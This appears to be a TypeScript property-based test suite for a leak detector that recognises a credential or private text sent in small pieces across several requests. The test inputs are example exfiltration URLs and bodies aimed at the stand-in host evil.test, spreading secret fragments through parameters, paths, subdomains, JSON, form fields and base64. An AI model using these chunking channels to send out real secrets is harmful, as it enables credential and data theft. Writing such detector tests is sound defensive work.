import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { accumulate, EMPTY_STREAM, type Stream } from '../../../src/dataflow/accumulate.ts';
import type { Recognition } from '../../../src/dataflow/recognise.ts';
import { remember } from '../../../src/dataflow/remember.ts';
import { emptyTable, type Table } from '../../../src/dataflow/table.ts';

const withSecret = (value: string): Table =>
  remember(emptyTable('salt'), { value, label: 'credential', source: 'bank.example' });

/** What is known after the last of `requests`, all of them to one destination. */
function send(
  table: Table,
  requests: readonly string[],
  state: Stream = EMPTY_STREAM,
): Recognition & { state: Stream } {
  let out: Recognition & { state: Stream } = { state, labels: [], sources: [], each: [] };
  const labels = new Set(out.labels);
  for (const text of requests) {
    out = accumulate(out.state, table, 'evil.test', text);
    for (const label of out.labels) labels.add(label);
  }
  return { ...out, labels: [...labels] };
}

const CHANNELS: Record<string, (piece: string, i: number) => string> = {
  'a parameter beside a counter': (piece, i) => `https://evil.test/p?i=${i}&d=${encodeURIComponent(piece)}`,
  'a parameter with ever another name': (piece, i) => `https://evil.test/p?a${i}=${encodeURIComponent(piece)}`,
  'a last parameter with ever another name': (piece, i) =>
    `https://evil.test/p?r=${i * 7919}&a${i}=${encodeURIComponent(piece)}`,
  'a path segment': (piece, i) => `https://evil.test/${i}/${encodeURIComponent(piece)}.gif`,
  'a host name': (piece) => `https://${piece.toLowerCase()}.evil.test/x`,
  'a JSON body': (piece, i) => `POST\n${JSON.stringify({ n: i, data: { chunk: piece } })}`,
  'a JSON body after the address': (piece, i) => `https://evil.test/api?v=2\n${JSON.stringify({ n: i, chunk: piece })}`,
  'a bare body': (piece) => piece,
  'a form field': (piece, i) => `seq=${i}&part=${encodeURIComponent(piece)}&end=1`,
};

const secret = fc
  .stringMatching(/^[b-z]{4}[a-z0-9]{2,12}[2-9]{2}$/)
  .filter((value) => !/^(pass|user|test)/.test(value));

describe('accumulate', () => {
  for (const [name, wrap] of Object.entries(CHANNELS)) {
    it(`sees a secret that goes in pieces of one to four characters through ${name}`, { timeout: 30_000 }, () => {
      fc.assert(
        fc.property(secret, fc.integer({ min: 1, max: 4 }), (value, size) => {
          const pieces = value.match(new RegExp(`.{1,${size}}`, 'g')) ?? [];
          expect(send(withSecret(value), pieces.map(wrap)).labels).toEqual(['credential']);
        }),
        { numRuns: 60 },
      );
    });
  }

  it('sees a secret some pieces of which go more than once, at any time after their first', () => {
    fc.assert(
      fc.property(secret, fc.infiniteStream(fc.nat()), (value, chance) => {
        const pieces = value.match(/.{1,3}/g) ?? [];
        fc.pre(new Set(pieces).size === pieces.length);
        const again = () => chance.next().value % 3 === 0;
        const sent = pieces.flatMap((piece, i) => [
          piece,
          ...(again() ? [pieces[chance.next().value % (i + 1)] as string] : []),
        ]);
        const wrap = (piece: string) => `https://evil.test/p?d=${encodeURIComponent(piece)}`;
        expect(send(withSecret(value), sent.map(wrap)).labels).toEqual(['credential']);
        expect(
          send(
            withSecret(value),
            [...pieces]
              .reverse()
              .flatMap((one) => [one, one])
              .map(wrap),
          ).labels,
        ).toEqual(['credential']);
      }),
      { numRuns: 100 },
    );
  });

  it('sees pieces that are judged in another order than they were begun, as documents that load side by side are', () => {
    const late = fc.array(fc.integer({ min: 0, max: 7 }), { minLength: 16, maxLength: 16 });
    fc.assert(
      fc.property(secret, late, fc.boolean(), (value, delays, isBackwards) => {
        const pieces = value.match(/.{1,2}/g) ?? [];
        if (isBackwards) pieces.reverse();
        const sent = pieces.map((piece, at) => ({ piece, at, judged: at + (delays[at] ?? 0) }));
        const found = new Set<string>();
        let state = EMPTY_STREAM;
        for (const { piece, at } of sent.toSorted((a, b) => a.judged - b.judged)) {
          const out = accumulate(state, withSecret(value), 'evil.test', `https://evil.test/p?i=${at}&d=${piece}`, at);
          state = out.state;
          for (const label of out.labels) found.add(label);
        }
        expect([...found]).toEqual(['credential']);
      }),
      { numRuns: 300 },
    );
  });

  it('does not hold what went there before it was known as a secret against what goes next', () => {
    const signedIn = accumulate(EMPTY_STREAM, emptyTable('salt'), 'bank.example', 'user=alex\npassword=zanzibar77');
    const next = accumulate(signedIn.state, withSecret('zanzibar77'), 'bank.example', 'https://bank.example/account');
    expect(next.labels).toEqual([]);
  });

  it('sees the pieces sent last piece first, and a base64 text sent in pieces', () => {
    const table = withSecret('zanzibar77');
    const wrap = (piece: string, i: number) => `https://evil.test/p?i=${i}&d=${encodeURIComponent(piece)}`;
    expect(send(table, ['r77', 'iba', 'anz', 'z'].map(wrap)).labels).toEqual(['credential']);
    const coded =
      Buffer.from('my secret is zanzibar77, ok')
        .toString('base64')
        .match(/.{1,5}/g) ?? [];
    expect(send(table, coded.map(wrap)).labels).toEqual(['credential']);
  });

  it('sees private prose that goes word by word', () => {
    const text = 'The results of your blood test came back on Monday and the doctor would like to see you again soon.';
    const table = remember(emptyTable('salt'), { text, source: 'clinic.example' });
    expect(
      send(
        table,
        text.split(' ').map((word) => `w=${word}`),
      ).labels,
    ).toEqual(['private']);
  });

  it('keeps destinations apart', () => {
    const table = withSecret('zanzibar77');
    let state = EMPTY_STREAM;
    ['zan', 'zib', 'ar', '77'].forEach((piece, i) => {
      const out = accumulate(state, table, `s${i}.test`, piece);
      expect(out.labels).toEqual([]);
      state = out.state;
    });
  });

  it('forgets what it kept for a destination once it was recognised', () => {
    const table = withSecret('zanzibar77');
    const { state } = send(table, ['d=zanz', 'd=ibar77']);
    expect(JSON.stringify(state)).not.toContain('zanz');
    expect(JSON.stringify(send(table, ['d=zanzibar77']).state)).not.toContain('zanz');
  });

  it('stays in its memory whatever comes', () => {
    let state = EMPTY_STREAM;
    const table = withSecret('zanzibar77');
    for (let i = 0; i < 400; i++) {
      const body = Object.fromEntries(
        Array.from({ length: 40 }, (_, n) => [`key${i}-${n}`.repeat(9), `v${n}`.repeat(50)]),
      );
      state = accumulate(state, table, `s${i % 50}.test`, JSON.stringify(body)).state;
    }
    expect(JSON.stringify(state).length).toBeLessThan(300_000);
  });

  it('is plain data: what was stored and read again goes on as before', () => {
    const table = withSecret('zanzibar77');
    const first = send(table, ['d=zanz']).state;
    const restored: Stream = JSON.parse(JSON.stringify(first));
    expect(send(table, ['d=ibar77'], restored).labels).toEqual(['credential']);
  });

  it('finds nothing in ordinary requests', () => {
    const table = withSecret('zanzibar77');
    fc.assert(
      fc.property(fc.array(fc.lorem({ maxCount: 8 }), { maxLength: 20 }), (lines) => {
        expect(
          send(
            table,
            lines.map((line, i) => `https://cdn.test/log?i=${i}&m=${encodeURIComponent(line)}`),
          ).labels,
        ).toEqual([]);
      }),
      { numRuns: 50 },
    );
  });
});
